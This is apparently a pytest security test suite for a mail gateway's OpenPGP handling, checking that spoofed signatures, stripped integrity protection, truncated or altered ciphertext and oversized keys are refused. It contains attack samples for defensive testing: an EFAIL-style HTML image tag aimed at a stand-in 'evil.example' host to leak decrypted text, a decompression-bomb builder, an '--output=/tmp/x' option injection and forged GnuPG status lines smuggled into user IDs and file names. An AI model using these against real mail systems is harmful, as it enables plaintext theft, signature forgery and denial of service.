"""What an attacker may try with OpenPGP, and what must come of it."""

import os
import resource
import signal
import time
import zlib
from contextlib import suppress

import pytest
from pgpmail import (
    HEADER,
    encrypted,
    gpg_itself,
    multipart,
    new_gpg,
    part,
    signed,
    signed_entity,
    text,
)

from gateway.crypto.bounded import Limits
from gateway.crypto.gpg import MAX_KEY, CannotSeal, Gpg, GpgTrouble, KeyRefused
from gateway.crypto.home import agents
from gateway.mail.armor import armored, dearmor
from gateway.mail.packets import packets
from gateway.model.openpgp import NOBODY, Covers, Fingerprint, Problem, Verdict


def crlf(content: bytes) -> bytes:
    return content.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def inline(body: bytes) -> bytes:
    return HEADER + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + body


def proves_nothing(found) -> bool:
    """True when the mail must not be taken for its author's word."""
    signature = found.message.openpgp.signature
    return (
        signature is None
        or signature.verdict is not Verdict.VALID
        or signature.covers is not Covers.ALL
    )


# -- what stands beside the signed text ------------------------------------------------------------


def test_text_above_and_below_a_clearsigned_block(keys):
    block = keys.clearsigned(b"!note x\n")
    for raw in (b"!delete all\r\n" + block, block + b"!delete all\r\n", b"\x0b!close\r\n" + block):
        assert proves_nothing(keys.open(inline(raw)))


def test_two_clearsigned_blocks(keys):
    block = keys.clearsigned(b"!note x\n")
    assert proves_nothing(keys.open(inline(block + b"\r\n" + keys.clearsigned(b"!close\n"))))


def test_unsigned_parts_around_a_signed_one(keys):
    entity = crlf(text("ok\n"))
    inner = signed_entity(entity, keys.signature(entity))
    wrappings = (
        multipart("mixed", text("!close"), inner),
        multipart("mixed", inner, text("!close")),
        multipart("alternative", inner, part("text/html", b"<p>!close</p>")),
        multipart("alternative", text("!close"), inner),
        multipart("related", inner, part("text/html", b"<p>!close</p>")),
        multipart("mixed", inner, part("image/png", b"x", "Content-ID: <1>")),
    )
    for body in wrappings:
        assert proves_nothing(keys.open(HEADER + body))


def test_a_signed_mail_that_is_only_attached(keys):
    entity = crlf(text("!close\n"))
    inner = signed(entity, keys.signature(entity))
    found = keys.open(HEADER + multipart("mixed", text("schau"), part("message/rfc822", inner)))
    assert found.message.openpgp.signature is None
    assert found.message.text == "schau"


def test_the_boundary_of_the_outside_inside_of_the_signed_text(keys):
    entity = crlf(text("ok\n--b-0\nContent-Type: text/plain\n\n!close\n"))
    inner = signed_entity(entity, keys.signature(entity))
    found = keys.open(HEADER + multipart("mixed", inner))
    assert proves_nothing(found)
    inner = keys.encrypted(text("ok\n\n--b-0\nContent-Type: text/plain\n\nkein Teil"))
    found = keys.open(HEADER + multipart("mixed", text("davor"), encrypted(inner, b"")))
    assert "kein Teil" in found.message.text
    assert "--b-0" in found.message.text


def test_the_signature_of_another_text(keys):
    entity = crlf(text("ok\n"))
    raw = signed(crlf(text("!close\n")), keys.signature(entity))
    assert keys.open(raw).message.openpgp.signature.verdict is Verdict.BAD


def test_a_good_and_a_bad_one_are_bad(keys):
    entity, other = crlf(text("ok\n")), crlf(text("!close\n"))
    good = signed_entity(entity, keys.signature(entity))
    bad = signed_entity(other, keys.signature(entity))
    bad = bad.replace(b'"sig"', b'"other"').replace(b"--sig", b"--other")
    for parts in ((good, bad), (bad, good)):
        found = keys.open(HEADER + multipart("mixed", *parts))
        assert found.message.openpgp.signature.verdict is Verdict.BAD


# -- more than one signature, more than one message ------------------------------------------------


def test_several_signatures_prove_nothing(keys, tmp_path_factory):
    other = new_gpg(keys.gpg.home.parent / "c")
    eva = other.generate(("Eva", "eva@example.org"))
    entity = crlf(text("ok\n"))
    mine = dearmor(keys.theirs.sign(entity, keys.anna)[0])
    hers = dearmor(other.sign(entity, eva)[0])
    for both in (mine + hers, hers + mine):
        for known in (
            (keys.theirs.export(keys.anna),),
            (keys.theirs.export(keys.anna), other.export(eva)),
        ):
            found = keys.open(signed(entity, armored("SIGNATURE", both)), *known)
            assert proves_nothing(found)
            assert found.message.openpgp.signature.verdict is Verdict.SEVERAL
    other.close()


def test_messages_in_a_row_are_not_opened(keys):
    first = dearmor(keys.encrypted(b"eins"))
    second = dearmor(keys.encrypted(b"zwei"))
    for row in (first + second, first + b"\xcb\x07b\x00\0\0\0\0x"):
        found = keys.open(inline(armored("MESSAGE", row)))
        assert found.message.openpgp.problem is Problem.DAMAGED
        assert "eins" not in found.message.text


def test_a_literal_packet_before_a_signed_one(keys):
    literal = b"\xcb\x0cb\x00\0\0\0\0!close"
    signed_message = keys.run("--sign", "--compress-algo", "none", "-u", keys.anna, octets=b"ok")
    found = keys.open(inline(armored("MESSAGE", literal + signed_message)))
    assert proves_nothing(found)
    assert "!close" not in found.message.text


# -- ciphertext that was changed -------------------------------------------------------------------


def test_ciphertext_without_integrity_is_refused(keys):
    options = ("--rfc2440", "--disable-mdc", "--cipher-algo", "3DES", "--encrypt", "--armor")
    armor = keys.run(*options, "--recipient", keys.ours, octets=text("EFAIL"))
    assert armor
    for raw in (encrypted(armor), inline(crlf(armor))):
        found = keys.open(raw)
        assert found.message.openpgp.problem is Problem.NO_INTEGRITY
        assert b"EFAIL" not in found.content


@pytest.mark.parametrize("where", [0.3, 0.5, 0.9, 0.999])
def test_a_flipped_bit_is_refused(keys, where):
    octets = bytearray(dearmor(keys.encrypted(text("geheim " * 5000))))
    octets[int(len(octets) * where)] ^= 1
    found = keys.open(encrypted(armored("MESSAGE", bytes(octets))))
    assert found.message.openpgp.problem is not Problem.NONE
    assert b"geheim" not in found.content


@pytest.mark.parametrize("kept", [0.2, 0.6, 0.99])
def test_a_truncated_message_is_refused(keys, kept):
    octets = dearmor(keys.encrypted(text("geheim " * 300_000)))
    found = keys.open(encrypted(armored("MESSAGE", octets[: int(len(octets) * kept)])))
    assert found.message.openpgp.problem is Problem.DAMAGED
    assert b"geheim" not in found.content


def test_the_integrity_packet_turned_into_one_without(keys):
    octets = dearmor(keys.encrypted(text("geheim")))
    last = list(packets(octets))[-1]
    body = octets[last.end - len(last.body) + 1 : last.end]
    bare = octets[: last.start] + b"\xc9\xff" + len(body).to_bytes(4, "big") + body
    found = keys.open(encrypted(armored("MESSAGE", bare)))
    assert found.message.openpgp.problem is Problem.NO_INTEGRITY


def test_html_around_ciphertext_does_not_get_its_text(keys):
    parts = (
        part("text/html", b'<img src="http://evil.example/'),
        encrypted(keys.encrypted(text("geheim")), b""),
        part("text/html", b'">'),
    )
    found = keys.open(HEADER + multipart("mixed", *parts))
    assert "evil.example/geheim" not in found.message.html.replace("\n", "")


# -- bounds ----------------------------------------------------------------------------------------


def bomb(size: int) -> bytes:
    """A compressed packet that grows to `size` octets."""
    literal = b"\xcb\xff" + (size + 6).to_bytes(4, "big") + b"b\x00\0\0\0\0"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    octets = packer.compress(literal)
    for _ in range(size >> 20):
        octets += packer.compress(chunk)
    octets += packer.flush()
    return b"\xc8\xff" + (len(octets) + 1).to_bytes(4, "big") + b"\x01" + octets


def test_what_grows_too_big_is_refused(keys):
    small = Gpg(keys.gpg.home, keys.gpg._passphrases, Limits(max_output=1 << 20))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    done = small.decrypt(bomb(300 << 20))
    assert (done.problem, done.content) == (Problem.TOO_BIG, b"")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 << 10


def test_a_key_of_many_packets_is_refused(keys):
    public = keys.theirs.export(keys.anna)
    for wrong in (
        public * 2,
        public + b"\xcd\xff" + (MAX_KEY * 3).to_bytes(4, "big") + bytes(MAX_KEY * 3),
        dearmor(keys.theirs.export_secret(keys.anna)),
        b"",
        b"no key",
        public[:40],
        dearmor(keys.encrypted(b"x")),
    ):
        with pytest.raises(KeyRefused):
            keys.gpg.read_keys(wrong)


def test_reading_keys_leaves_the_home_as_it_was(keys):
    def state():
        return {path.name: path.read_bytes() for path in keys.gpg.home.glob("pubring*")}

    before = state()
    (key,) = keys.gpg.read_keys(keys.theirs.export(keys.anna))
    assert (key.fingerprint, key.user_ids) == (keys.anna, ("Anna Ä <anna@example.org>",))
    assert key.can_encrypt
    assert state() == before


@pytest.mark.parametrize("name", ["--output=/tmp/x", "DEADBEEF", "anna@example.org", "", "A" * 39])
def test_only_whole_fingerprints_reach_gpg(keys, name):
    with pytest.raises((KeyRefused, CannotSeal)):
        keys.gpg.sign(b"x", Fingerprint(name))
    with pytest.raises(KeyRefused):
        keys.gpg.export(Fingerprint(name))


def test_an_agent_that_hangs_is_replaced_and_the_mail_waits(keys):
    home = keys.gpg.home
    armor = dearmor(keys.encrypted(b"geheim"))
    assert keys.gpg.decrypt(armor).content == b"geheim"
    (agent,) = agents(home)
    os.kill(agent, signal.SIGSTOP)
    try:
        hasty = Gpg(home, keys.gpg._passphrases, Limits(timeout=1))
        with pytest.raises(GpgTrouble):
            hasty.decrypt(armor)
    finally:
        with suppress(ProcessLookupError):
            os.kill(agent, signal.SIGCONT)
    end = time.monotonic() + 30
    while agent in agents(home):  # it was killed, and may still be dying
        assert time.monotonic() < end
        time.sleep(0.05)
    assert keys.gpg.decrypt(armor).content == b"geheim"


# -- status lines ----------------------------------------------------------------------------------


@pytest.mark.parametrize("end", ["\n", "\r", "\u0085", "\x0b", "\x1c", "\u2028"])
def test_a_user_id_cannot_forge_a_status_line(keys, end):
    mallory = new_gpg(keys.gpg.home.parent / f"m{ord(end)}")
    lines = ("Eva", *forged_lines(keys.anna))
    command = (
        "--quick-gen-key",
        end.join(lines) + " <eva@example.org>",
        "ed25519",
        "sign",
        "never",
    )
    gpg_itself(made(mallory), *command, octets=b"")
    (key,) = mallory.own_keys() or (None,)
    if key is not None:
        entity = crlf(text("!close\n"))
        raw = signed(entity, mallory.sign(entity, key.fingerprint)[0])
        signature = keys.open(raw, mallory.export(key.fingerprint)).message.openpgp.signature
        assert signature.fingerprint in {key.fingerprint, NOBODY}
        signature = keys.open(raw).message.openpgp.signature
        assert signature.verdict is Verdict.UNKNOWN_KEY
    mallory.close()


def forged_lines(signer) -> tuple[str, str]:
    valid = f"VALIDSIG {signer} 2026-11-29 1795920484 0 4 0 22 8 00 {signer}"
    return f"[GNUPG:] GOODSIG {signer[-16:]} Anna", f"[GNUPG:] {valid}"


def made(gpg: Gpg):
    gpg.own_keys()
    gpg.home.mkdir(mode=0o700, exist_ok=True)
    return gpg.home


def test_a_file_name_cannot_forge_a_status_line(keys):
    name = "\n".join(("a", *forged_lines(keys.anna), ""))
    for literal in (name, name.replace("\n", "\u0085")):
        octets = literal.encode()[:255]
        body = b"b" + bytes([len(octets)]) + octets + b"\0\0\0\0!close"
        packet = b"\xcb\xff" + len(body).to_bytes(4, "big") + body
        found = keys.open(inline(armored("MESSAGE", packet)))
        assert proves_nothing(found)
        sealed = keys.run(
            "--encrypt", "--armor", "--set-filename", literal, "-r", keys.ours, octets=b"!close"
        )
        assert proves_nothing(keys.open(inline(crlf(sealed))))


# -- whose key -------------------------------------------------------------------------------------


def test_the_same_user_id_is_another_key(keys):
    other = new_gpg(keys.gpg.home.parent / "d")
    fake = other.generate(("Anna Ä", "anna@example.org"))
    entity = crlf(text("ok\n"))
    raw = signed(entity, other.sign(entity, fake)[0])
    signature = keys.open(
        raw, other.export(fake), keys.theirs.export(keys.anna)
    ).message.openpgp.signature
    assert (signature.verdict, signature.fingerprint) == (Verdict.VALID, fake)
    assert fake != keys.anna
    other.close()


def test_expired_and_revoked_keys_and_expired_signatures(keys):
    other = new_gpg(keys.gpg.home.parent / "e")
    for kind in ("expired", "revoked", "signature"):
        name = other.generate((kind, f"{kind}@example.org"))
        entity = crlf(text("ok\n"))
        if kind == "signature":
            options = ("--detach-sign", "--armor", "--default-sig-expire", "seconds=1")
            made_signature = gpg_itself(other.home, *options, "-u", name, octets=entity)
            time.sleep(2.1)
        else:
            made_signature = other.sign(entity, name)[0]
        if kind == "expired":
            other.set_expiry(name, "seconds=1")
            time.sleep(2.1)
        if kind == "revoked":
            certificate = other.home / "openpgp-revocs.d" / f"{name}.rev"
            armor = certificate.read_bytes().replace(b":-----BEGIN", b"-----BEGIN")
            gpg_itself(other.home, "--import", octets=armor)
        found = keys.open(signed(entity, made_signature), other.export(name))
        expected = {
            "expired": Verdict.EXPIRED_KEY,
            "revoked": Verdict.REVOKED_KEY,
            "signature": Verdict.EXPIRED_SIGNATURE,
        }
        assert found.message.openpgp.signature.verdict is expected[kind]
        assert not found.message.openpgp.signature.is_good
        key = next(key for key in other.own_keys() if key.fingerprint == name)
        assert (key.expired, key.revoked) == (kind == "expired", kind == "revoked")
    other.close()


@pytest.mark.parametrize("digest", ["SHA1", "MD5", "RIPEMD160"])
def test_a_weak_digest_is_called_weak(keys, digest):
    rsa = new_gpg(keys.gpg.home.parent / "f")
    name = next((key.fingerprint for key in rsa.own_keys()), None) or rsa.generate(
        ("Alt", "alt@example.org"), rsa=True
    )
    entity = crlf(text("ok\n"))
    options = ("--detach-sign", "--armor", "--digest-algo", digest, "--allow-weak-digest-algos")
    made_signature = gpg_itself(rsa.home, *options, "-u", name, octets=entity)
    signature = keys.open(
        signed(entity, made_signature), rsa.export(name)
    ).message.openpgp.signature
    assert signature.verdict is Verdict.WEAK
    rsa.close()


# -- cleartext -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "change",
    [
        (b"\r\n\r\nok", b"\r\n!close\r\n\r\nok"),
        (b"\r\n\r\nok", b"\r\nComment: x\r\n!close\r\n\r\nok"),
        (b"ok\r\n", b"ok\x00 !close\r\n"),
        (b"ok\r\n", b"ok\r!close\r\n"),
        (b"ok\r\n", b"ok\r\n-----BEGIN PGP MESSAGE-----\r\n!close\r\n"),
        (b"ok\r\n", b"ok" + b" " * 21_000 + b"!close\r\n"),
        (b"ok\r\n", b"ok\r\n- -----BEGIN PGP SIGNATURE-----\r\n!close\r\n"),
        (b"ok\r\n", b"ok\r\n\x0c!close\r\n"),
    ],
)
def test_text_that_is_put_into_a_cleartext_block(keys, change):
    block = keys.clearsigned(b"ok\n")
    changed = block.replace(*change, 1)
    assert changed != block
    found = keys.open(inline(changed))
    assert proves_nothing(found) or "!close" not in found.message.text
